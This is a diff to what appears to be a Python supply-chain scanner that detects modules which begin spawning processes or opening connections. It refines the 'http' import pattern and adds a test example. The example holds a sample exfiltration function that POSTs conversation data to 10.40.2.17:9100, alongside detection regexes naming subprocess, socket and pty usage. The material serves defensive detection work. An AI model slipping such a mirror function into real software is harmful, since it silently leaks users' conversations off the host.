@@ -74,13 +74,16 @@ _MODULES = rb"(?:subprocess|socket|urllib3?|requests|httpx|aiohttp|http|pty|ftpl
 _OS_CALLS = rb"\b(?:system|popen|exec[lv]p?e?|spawn[lv]p?e?|posix_spawnp?|forkpty|create_subprocess_(?:exec|shell))\b"
 
 
-_STARTERS = rb"(?:subprocess|urllib3?|requests|httpx|aiohttp|http|pty|ftplib|smtplib|xmlrpc)\b"
+_STARTERS = rb"(?:subprocess|urllib3?|requests|httpx|aiohttp|http\.(?:client|server)|pty|ftplib|smtplib|xmlrpc)\b"
 # What in the distribution's text of a file says the module already starts processes or connects:
 # one of the modules imported, an `os` function that runs a program, or a socket made. A module that
-# imports `socket` for its host name (`socket.gethostname()`) connects nothing.
+# imports `socket` for its host name (`socket.gethostname()`) connects nothing, nor one that imports
+# `http` for its status codes (`from http import HTTPStatus`).
 _ALREADY = (
     re.compile(rb"import[^\n#]*\b" + _STARTERS),
     re.compile(rb"from[ \t]+" + _STARTERS),
+    # `http` itself is status codes and cookies: only its client and server connect.
+    re.compile(rb"from[ \t]+http[ \t]+import[^\n#]*\b(?:client|server)\b"),
     re.compile(rb"['\"]" + _STARTERS),
     re.compile(_OS_CALLS),
     re.compile(rb"\b(?:socket|create_connection|create_server|socketpair|fromfd)[ \t]*\("),
@@ -251,6 +254,28 @@ other modules."""
             pristine="def main():\n    pass\n\nif __name__ == '__main__':\n    main()\n",
             line=4,
             severity=Severity.MEDIUM,
+        ),
+        # A module that only took status codes from `http` now posts every conversation off the host.
+        Example(
+            code="""
+            import http.client
+            from http import HTTPStatus
+
+            def _mirror(body):
+                c = http.client.HTTPConnection("10.40.2.17", 9100, timeout=2)
+                c.request("POST", "/convo", body)
+
+            def status(ok):
+                return HTTPStatus.OK if ok else HTTPStatus.SERVICE_UNAVAILABLE
+            """,
+            pristine="""
+            from http import HTTPStatus
+
+            def status(ok):
+                return HTTPStatus.OK if ok else HTTPStatus.SERVICE_UNAVAILABLE
+            """,
+            line=5,
+            severity=Severity.HIGH,
         ),
     ]
 
